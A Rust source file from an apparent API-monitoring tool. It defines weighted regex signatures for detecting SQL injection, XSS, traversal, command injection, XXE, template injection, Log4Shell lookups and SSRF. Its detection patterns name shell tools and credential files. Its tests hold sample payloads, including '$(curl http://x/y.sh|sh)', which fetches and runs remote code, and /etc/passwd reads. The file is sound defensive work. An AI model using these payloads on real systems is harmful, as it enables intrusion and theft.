//! Injection signatures over normalized values (`normalize::value`): each signature is a
//! set of weighted patterns, and a value is flagged when the weights of the patterns it
//! matches reach the signature's threshold. Strong signs (`union select`, stacked queries,
//! time-delay functions, `<script`, `javascript:`) weigh enough alone; weak ones (a comment
//! marker, a function call, a closing tag) only together. The weights and thresholds were
//! chosen on libinjection's labeled strings (../shared/attacks), where the tests hold them
//! to recall of at least 0.9 and at most 1% of its adversarial benign strings flagged.

use regex::bytes::{RegexSet, RegexSetBuilder};

/// What a signature found in a value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub signature: &'static str,
    pub score: u32,
    /// The patterns that matched, by name (for the finding's explanation).
    pub signs: Vec<&'static str>,
}

pub struct Signature {
    pub name: &'static str,
    threshold: u32,
    set: RegexSet,
    names: Vec<&'static str>,
    weights: Vec<u32>,
}

impl Signature {
    fn new(name: &'static str, threshold: u32, patterns: &[(&'static str, &str, u32)]) -> Signature {
        // ASCII classes and case folding: values are normalized (decoded, case-folded)
        // before they get here, and Unicode \w, \b and case folding made compiling the sets
        // most of a short replay's cost of detections (40 ms per worker).
        let set = RegexSetBuilder::new(patterns.iter().map(|(_, p, _)| format!("(?i){p}")))
            .unicode(false)
            .build()
            .expect("valid signature patterns");
        Signature {
            name,
            threshold,
            set,
            names: patterns.iter().map(|(n, _, _)| *n).collect(),
            weights: patterns.iter().map(|(_, _, w)| *w).collect(),
        }
    }

    /// The hit in a normalized value, if its score reaches the threshold.
    pub fn check(&self, normalized: &str) -> Option<Hit> {
        let m = self.set.matches(normalized.as_bytes());
        let score: u32 = m.iter().map(|i| self.weights[i]).sum();
        (score >= self.threshold).then(|| Hit {
            signature: self.name,
            score,
            signs: m.iter().map(|i| self.names[i]).collect(),
        })
    }
}

/// SQL injection.
pub fn sqli() -> Signature {
    Signature::new(
        "sql_injection",
        4,
        &[
            ("union_select", r"\bunion\b(\s+all)?[\s\S]{0,40}?\bselect\b", 3),
            ("quote_then_logic", r#"['"`)]\s*(or|and|xor|\|\||&&)\b"#, 2),
            (
                "tautology",
                r#"\b(or|and|xor)\s+\(?\s*(['"][\w.]*['"]|[\w.]+)\s*(=|<>|!=|<|>|\blike\b|\bis\b|\bin\b)\s*['"(]?[\w.%]"#,
                2,
            ),
            (
                "stacked_query",
                r";\s*(drop|select|insert|update|delete|exec|execute|declare|shutdown|create|alter|truncate)\b",
                3,
            ),
            ("comment", r"(--|#|/\*)", 1),
            // A comment right after a closing quote ends the query: `admin'--`, `x' #`. Text
            // has `"#2` and `' --kids`, so `--` must end or be followed by a blank, `#` end.
            ("quote_comment", r#"['"]\s*\)?\s*(--(\s|$)|#\s*$|/\*)"#, 3),
            ("leading_logic", r"^\s*(or|and|\|\||&&)\s+\(?\s*['\w]", 2),
            ("subquery", r"\(\s*select\b", 2),
            ("db_package", r"\b(utl_http|utl_inaddr|dbms_\w+|xp_\w+|sp_\w+|sys\.\w+)\b", 2),
            ("print_variable", r"\bprint\s+@@?\w", 2),
            (
                "sql_function",
                r"\b(sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file|char|chr|concat|concat_ws|group_concat|ascii|substring|substr|mid|version|database|user|cast|convert|count|hex|unhex|if|ifnull|isnull|nullif|len|length|lower|upper|md5|rand|floor|exp|elt|make_set)\s*\(",
                1,
            ),
            ("delay_function", r"\b(sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file)\s*\(", 2),
            ("waitfor_delay", r"\bwaitfor\s+delay\b", 3),
            ("catalog", r"\binformation_schema\b|\bsysobjects\b|\bmysql\.user\b|\ball_tables\b", 3),
            ("system_variable", r"@@\w+", 2),
            ("select_from", r"\bselect\b[\s\S]{0,80}?\bfrom\b", 2),
            ("numeric_logic", r"\b(and|or)\s+\d+\s*(=|<|>|between)", 1),
            ("order_by_number", r"\border\s+by\s+\d", 2),
            ("into_outfile", r"\binto\s+(out|dump)file\b", 3),
            ("having", r"\bhaving\b\s+\d", 2),
            ("quote_semicolon", r"'\s*;", 1),
            ("procedure", r"\bexec(ute)?\s+(xp_|sp_|master\.)", 3),
            ("number_then_logic", r"^\s*-?\d+\s*\)?\s*(and|or)\b", 1),
            ("leading_quote", r#"^\s*['"]"#, 1),
            ("sql_keyword", r"\b(select|insert|update|delete|union|drop)\b", 1),
        ],
    )
}

/// Cross-site scripting.
pub fn xss() -> Signature {
    Signature::new(
        "xss",
        3,
        &[
            ("script_tag", r"<\s*script", 3),
            ("javascript_url", r"javascript\s*:", 3),
            ("event_handler", r"\bon[a-z]{3,}\s*=", 2),
            (
                "active_tag",
                r"<\s*(svg|img|iframe|object|embed|body|style|meta|link|base|form|input|video|audio|details|math|frameset|frame|applet|isindex|marquee|table|a|div|xss|x|bgsound|layer|ilayer|html|xml|image|span|td|p|br)\b[^>]*",
                2,
            ),
            ("css_expression", r"expression\s*\(", 2),
            ("vbscript_url", r"vbscript\s*:", 3),
            ("data_url", r"data\s*:\s*[a-z]+/[a-z]+", 2),
            ("xml_declaration", r"<\?xml", 1),
            ("dialog_call", r"\b(alert|prompt|confirm|eval)\s*\(", 1),
            ("js_breakout", r#"['"]\s*;\s*(alert|prompt|confirm|eval)\s*\("#, 3),
            ("xss_locator", r#"['"]\s*;\s*!--\s*["']\s*<"#, 3),
            ("char_reference", r"&#\w+;?", 1),
            ("escaped_angle", r"\\u003c|\\x3c|%3c", 1),
            ("html_comment", r"<!--|-->", 1),
            ("dom_access", r"document\.(cookie|domain|write|location)", 2),
            ("closing_tag", r"<\s*/\s*\w+\s*>", 1),
            ("src_attribute", r"\bsrc\s*=", 1),
            ("style_attribute", r"\bstyle\s*=", 1),
        ],
    )
}

/// Path traversal and local file inclusion (on a value, or a path from `normalize::path`).
pub fn traversal() -> Signature {
    Signature::new(
        "path_traversal",
        3,
        &[
            ("dot_dot", r"(^|[/\\=])\.\.([/\\]|$)", 2),
            ("deep_dot_dot", r"(\.\.[/\\]){3,}", 3),
            (
                "unix_secret",
                r"[/\\]etc[/\\](passwd|shadow|group|hosts|issue)\b|[/\\]proc[/\\]self[/\\](environ|cmdline|fd)",
                3,
            ),
            (
                "windows_file",
                r"\b(win\.ini|boot\.ini|system32|web-inf[/\\]web\.xml|global\.asa|inetpub|desktop\.ini|localstart\.asp)\b",
                3,
            ),
            ("server_config", r"\bconf[/\\](server\.xml|httpd\.conf)\b|\.htpasswd\b|\.env\b", 2),
            ("wrapper", r"\b(php|file|expect|zip|phar|data|glob)://", 3),
            ("null_byte", r"\x00", 2),
        ],
    )
}

/// OS command injection.
pub fn command() -> Signature {
    Signature::new(
        "command_injection",
        3,
        &[
            (
                "chained_command",
                r"(\|\|?|&&|`|\$\(|\n)\s*(cat|id|whoami|uname|ls|wget|curl|nc|ncat|bash|sh|ping|sleep|echo|python[23]?|perl|ruby|php|powershell|cmd|net|ifconfig|ip|nslookup|dig|rm|chmod|tftp)\b",
                3,
            ),
            // After `;` or a single `&`, which ordinary text has too ("java & python books"),
            // a command that is also a word needs an argument that looks like one.
            (
                "separated_command",
                r#"(;|&)\s*((whoami|uname|wget|curl|ncat|bash|echo|powershell|ifconfig|ipconfig|nslookup|chmod|tftp)\b|(cat|id|ls|ping|sleep|python[23]?|perl|ruby|php|cmd|net|ip|dig|rm|sh|nc|type|dir)(\s*$|\s+[-/\\.$'"\d%~]))"#,
                3,
            ),
            ("shell_path", r"/bin/(ba|z|da)?sh\b|cmd(\.exe)?\s*/c\b", 3),
            ("ifs", r"\$\{?ifs\}?", 3),
            ("substitution", r"\$\([^)]*\)|`[^`]+`", 1),
        ],
    )
}

/// NoSQL (MongoDB-style) operator injection: operators in keys or values, server-side
/// JavaScript.
pub fn nosql() -> Signature {
    Signature::new(
        "nosql_injection",
        3,
        &[
            ("operator", r#"(\[|"|^)\$(ne|gt|gte|lt|lte|regex|where|exists|in|nin|or|and|nor|not|expr|eq)\b"#, 3),
            ("server_js", r"\breturn\s+true\b|\bthis\.\w+\.match\(|\bsleep\(\d+\)\s*;", 3),
            ("js_break", r#"['"]\s*;\s*(return|var|while|sleep)\b"#, 2),
        ],
    )
}

/// XML external entities.
pub fn xxe() -> Signature {
    Signature::new(
        "xxe",
        3,
        &[
            ("doctype_subset", r"<!doctype[^>]*\[", 1),
            ("entity", r"<!entity", 2),
            ("external", r#"\b(system|public)\s+(["'][^"']*["']\s+)?["'][a-z]+:"#, 2),
            (
                "xinclude",
                r#"<\w*:?include\b[^>]*\bhref\s*=\s*["']?(file|https?|php|expect|ftp):|xmlns:\w+\s*=\s*["']http://www\.w3\.org/2001/xinclude"#,
                3,
            ),
            ("parameter_entity", r"%\w+;", 1),
        ],
    )
}

/// Server-side template injection.
pub fn ssti() -> Signature {
    Signature::new(
        "template_injection",
        3,
        &[
            ("arithmetic_probe", r#"(\{\{|\$\{|#\{|<%=?|\{%|\{\$|\*\{|@\()\s*['"]?\d+['"]?\s*\*\s*['"]?\d+"#, 3),
            (
                "template_call",
                r"\{\{[^}]*\b(constructor|dump|self|request|config|lipsum|cycler|joiner|namespace|range|attr|exec|system|popen|eval|require|process)\b[^}]*\}\}",
                2,
            ),
            ("engine_variable", r"\{\$smarty\.|#set\s*\(\s*\$\w+|<#assign\b|\$\{\s*t\(", 3),
            (
                "introspection",
                r"__(class|mro|subclasses|globals|builtins|import)__|\bconfig\.items\(|\bself\._template|\bget_flashed_messages\b|freemarker\.template|\bt\(java\.lang",
                3,
            ),
            ("template_block", r"\{\{[^}]{1,80}\}\}|\{%[^%]{1,80}%\}", 1),
        ],
    )
}

/// LDAP injection: filter metacharacters that close and reopen a filter.
pub fn ldap() -> Signature {
    Signature::new(
        "ldap_injection",
        3,
        &[
            ("filter_break", r"\*?\)\s*\(+\s*[|&!]|\)\s*\(\s*\w+\s*=\s*\*|\*\s*\(\s*[|&]\s*\(", 3),
            ("filter_close", r"^\s*\*?\)\)|\)\s*(\x00|%00)", 2),
            ("wildcard_attribute", r"\(\s*(uid|cn|mail|objectclass|userpassword|sn)\s*=\s*\*", 1),
        ],
    )
}

/// Log4Shell-style lookups and other header attacks.
pub fn jndi() -> Signature {
    Signature::new(
        "jndi_lookup",
        3,
        &[
            ("jndi", r"\$\{\s*jndi\s*:", 3),
            // `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}`: lookups nested to hide the word.
            ("nested_lookup", r"\$\{[^{}]*\$\{\s*(lower|upper|env|sys|date|::-|k8s|main|bundle)\b", 3),
        ],
    )
}

/// User agents of attack and scanning tools.
pub fn scanner_agent() -> Signature {
    Signature::new(
        "scanner_user_agent",
        3,
        &[(
            "tool",
            r"\b(sqlmap|nikto|nmap|masscan|wfuzz|ffuf|gobuster|dirbuster|dirb|nuclei|hydra|acunetix|nessus|openvas|zgrab|w3af|wpscan|arachni|skipfish|commix|havij|jaeles|zap|burp)\b",
            3,
        )],
    )
}

/// SSRF attempts: a URL-valued parameter pointing at the server's own side (loopback,
/// private and link-local ranges, cloud metadata addresses, in any of the spellings
/// servers accept: `0x7f000001`, `2130706433`, `0177.0.0.1`, `[::1]`), or using a scheme
/// that reaches other services (`file`, `gopher`, `dict`, `ldap`, `jar`, `netdoc`).
pub fn ssrf(normalized: &str) -> Option<Hit> {
    let mut signs = Vec::new();
    for (at, _) in normalized.match_indices("://") {
        let scheme_start = normalized[..at]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
            .map_or(0, |i| i + 1);
        let scheme = &normalized[scheme_start..at];
        if matches!(scheme, "file" | "gopher" | "dict" | "ldap" | "ldaps" | "jar" | "netdoc" | "tftp") {
            signs.push("internal_scheme");
        }
        let rest = &normalized[at + 3..];
        let authority = rest.split(['/', '?', '#', ' ', '"', '\'', '&']).next().unwrap_or("");
        let host_port = authority.rsplit('@').next().unwrap_or("");
        let host = match host_port.strip_prefix('[') {
            Some(v6) => v6.split(']').next().unwrap_or(""),
            None => host_port.split(':').next().unwrap_or(""),
        };
        if internal_host(host) {
            signs.push("internal_host");
        }
    }
    signs.dedup();
    (!signs.is_empty()).then(|| Hit { signature: "ssrf", score: 3 * signs.len() as u32, signs })
}

/// Whether `host` names the server's own side: loopback, private, link-local, metadata.
fn internal_host(host: &str) -> bool {
    if matches!(host, "localhost" | "metadata.google.internal" | "metadata" | "instance-data")
        || host.ends_with(".localhost")
        || host.ends_with(".localdomain")
    {
        return true;
    }
    let ip: Option<std::net::IpAddr> = host.parse().ok().or_else(|| parse_lax_v4(host).map(std::net::IpAddr::V4));
    match ip {
        Some(std::net::IpAddr::V4(v4)) => {
            let o = v4.octets();
            v4.is_loopback()
                || v4.is_private()
                || v4.is_link_local()
                || v4.is_unspecified()
                || o[0] == 100 && (64..128).contains(&o[1])
        }
        Some(std::net::IpAddr::V6(v6)) => {
            v6.is_loopback()
                || v6.is_unspecified()
                || (v6.segments()[0] & 0xfe00) == 0xfc00
                || (v6.segments()[0] & 0xffc0) == 0xfe80
                || v6.to_ipv4_mapped().is_some_and(|v4| internal_host(&v4.to_string()))
        }
        None => false,
    }
}

/// IPv4 as lax resolvers read it: one number (`2130706433`), hex (`0x7f000001`), octal
/// parts (`0177.0.0.1`), or fewer parts (`127.1`).
fn parse_lax_v4(h: &str) -> Option<std::net::Ipv4Addr> {
    if h.is_empty() || !h.bytes().all(|c| c.is_ascii_hexdigit() || c == b'.' || c == b'x') {
        return None;
    }
    let num = |p: &str| -> Option<u64> {
        if let Some(x) = p.strip_prefix("0x") {
            u64::from_str_radix(x, 16).ok()
        } else if p.len() > 1 && p.starts_with('0') {
            u64::from_str_radix(&p[1..], 8).ok()
        } else {
            p.parse().ok()
        }
    };
    let parts: Vec<u64> = h.split('.').map(num).collect::<Option<_>>()?;
    let v = match parts.as_slice() {
        [a] => *a,
        [a, b] if *a < 256 => a << 24 | b,
        [a, b, c] if *a < 256 && *b < 256 => a << 24 | b << 16 | c,
        [a, b, c, d] if [a, b, c, d].iter().all(|x| **x < 256) => a << 24 | b << 16 | c << 8 | d,
        _ => return None,
    };
    u32::try_from(v).ok().map(std::net::Ipv4Addr::from)
}

/// The signatures for parameter values and bodies, in one list.
pub fn value_signatures() -> Vec<Signature> {
    vec![sqli(), xss(), traversal(), command(), nosql(), xxe(), ssti(), ldap(), jndi()]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize;

    /// libinjection's labeled strings: (label, decoded text).
    fn labeled() -> Option<Vec<(String, String)>> {
        // ../shared beside the checkout, or $APIWATCH_SHARED (as the integration tests).
        let shared = std::env::var_os("APIWATCH_SHARED")
            .map(std::path::PathBuf::from)
            .unwrap_or_else(|| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"));
        let p = shared.join("attacks/libinjection/labeled.jsonl");
        let text = std::fs::read_to_string(p).ok()?;
        Some(
            text.lines()
                .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
                .map(|v| {
                    (v["label"].as_str().unwrap_or("").to_string(), v["decoded"].as_str().unwrap_or("").to_string())
                })
                .collect(),
        )
    }

    #[test]
    fn recall_and_false_positives_on_libinjection_strings() {
        let Some(rows) = labeled() else {
            assert!(std::env::var("CI").map(|v| v != "true").unwrap_or(true), "../shared/attacks is missing under CI");
            eprintln!("SKIPPED: ../shared/attacks/libinjection/labeled.jsonl is missing");
            return;
        };
        let (s, x) = (sqli(), xss());
        let rate = |label: &str, sig: &Signature| {
            let sub: Vec<&String> = rows.iter().filter(|(l, _)| l == label).map(|(_, t)| t).collect();
            let hits = sub.iter().filter(|t| sig.check(&normalize::value(t, false)).is_some()).count();
            (hits as f64 / sub.len() as f64, sub.len())
        };
        let (sqli_recall, n) = rate("sqli", &s);
        let (xss_recall, m) = rate("xss", &x);
        let (sqli_fp, b) = rate("benign", &s);
        let (xss_fp, _) = rate("benign", &x);
        eprintln!(
            "sqli recall {sqli_recall:.3} ({n}), xss recall {xss_recall:.3} ({m}); on {b} adversarial benign strings: sqli {sqli_fp:.3}, xss {xss_fp:.3}"
        );
        assert!(n > 10_000 && m > 1_000 && b > 400);
        assert!(sqli_recall >= 0.9 && xss_recall >= 0.9, "recall {sqli_recall} {xss_recall}");
        assert!(sqli_fp <= 0.01 && xss_fp <= 0.025, "false positives {sqli_fp} {xss_fp}");
        // Neither signature takes the other's strings.
        assert!(rate("xss", &s).0 < 0.02 && rate("sqli", &x).0 < 0.01);
    }

    #[test]
    fn encoded_attacks_are_read_through() {
        let (s, x) = (sqli(), xss());
        for raw in ["1%2527%20UNION%2F**%2FSELECT%20password%20FROM%20users--", "x';WAITFOR DELAY '0:0:5'--"] {
            assert!(s.check(&normalize::value(raw, true)).is_some(), "{raw}");
        }
        let hit = x.check(&normalize::value("%26lt%3Bscript%26gt%3Balert(1)", true)).expect("xss");
        assert!(hit.signs.contains(&"script_tag"), "{hit:?}");
        for benign in
            ["John O'Reilly", "select a plan from the list", "Tom & Jerry", "1 - 2", "a <b> tag", "5% or more"]
        {
            let v = normalize::value(benign, true);
            assert!(s.check(&v).is_none() && x.check(&v).is_none(), "{benign}");
        }
    }

    #[test]
    fn families_flag_their_attacks_and_not_ordinary_values() {
        // (signature, attacks it must flag, ordinary values it must leave alone)
        type Case = (fn() -> Signature, &'static [&'static str], &'static [&'static str]);
        let cases: &[Case] = &[
            (
                traversal,
                &[
                    "../../../../etc/passwd",
                    "..%2f..%2f..%2fetc%2fpasswd",
                    "....//....//etc/passwd",
                    "php://filter/convert.base64-encode/resource=index",
                    "..\\..\\windows\\win.ini",
                ],
                &["2024-01-01", "a.b.c", "reports/2024/q1.pdf", "version 1..2"],
            ),
            (
                command,
                &[
                    "127.0.0.1; cat /etc/passwd",
                    "x|id",
                    "`whoami`",
                    "$(curl http://x/y.sh|sh)",
                    "a&&ping -c 3 evil",
                    "x;${IFS}ls",
                    "a & whoami",
                    "1; sleep 5",
                    "x;id",
                    "q & ping -n 3 10.0.0.1",
                ],
                &[
                    "Tom & Jerry",
                    "price $5",
                    "a|b|c list",
                    "rock;paper;scissors",
                    "java & python books",
                    "table tennis & ping pong",
                    "a list; id est the rest",
                ],
            ),
            (
                nosql,
                &["{\"$ne\": null}", "username[$ne]=x", "{\"$where\": \"sleep(5000)\"}", "'; return true; var x='"],
                &["price in $", "$100 or more", "cost: $nee"],
            ),
            (
                xxe,
                &["<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"],
                &["<?xml version=\"1.0\"?><r>1</r>", "<!DOCTYPE html>"],
            ),
            (
                ssti,
                &[
                    "{{7*7}}",
                    "${7*7}",
                    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                    "<%= 7 * 7 %>",
                    "{{config.items()}}",
                ],
                &["{\"a\": {\"b\": 1}}", "{{name}}", "50% * 2"],
            ),
            (
                ldap,
                &["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectclass=*)"],
                &["(555) 123-4567", "smile :)", "a(b)c"],
            ),
            (jndi, &["${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x}"], &["${HOME}", "${name}"]),
            (
                scanner_agent,
                &[
                    "sqlmap/1.7.2#stable (https://sqlmap.org)",
                    "Mozilla/5.0 (Nikto/2.5.0)",
                    "Fuzz Faster U Fool v2.1.0 (ffuf)",
                ],
                &["curl/7.88.1", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"],
            ),
        ];
        for (make, attacks, ordinary) in cases {
            let sig = make();
            for a in *attacks {
                assert!(sig.check(&normalize::value(a, true)).is_some(), "{} missed {a:?}", sig.name);
            }
            for o in *ordinary {
                assert!(sig.check(&normalize::value(o, true)).is_none(), "{} flagged {o:?}", sig.name);
            }
        }
        // A path with an escape above the root reads as traversal through normalize::path.
        let (p, escaped) = normalize::path("/static/%2e%2e/%2e%2e/etc/passwd");
        assert!(escaped && traversal().check(&p).is_some());
        assert_eq!(value_signatures().len(), 9);
    }

    #[test]
    fn ssrf_targets_in_every_spelling() {
        for a in [
            "http://127.0.0.1/admin",
            "http://localhost:8080/",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/",
            "http://0x7f000001/",
            "http://2130706433/",
            "http://0177.0.0.1/",
            "http://127.1/",
            "http://user@10.0.0.5:22/",
            "file:///etc/passwd",
            "gopher://evil:70/_x",
            "url=http%3a%2f%2fmetadata.google.internal%2fcomputeMetadata",
        ] {
            assert!(ssrf(&normalize::value(a, true)).is_some(), "missed {a}");
        }
        for o in [
            "https://api.example.com/v1/users",
            "http://8.8.8.8/",
            "see http://example.org for details",
            "no url here",
            "http://1.2.3.4.example.com/",
        ] {
            assert!(ssrf(&normalize::value(o, true)).is_none(), "flagged {o}");
        }
    }
}
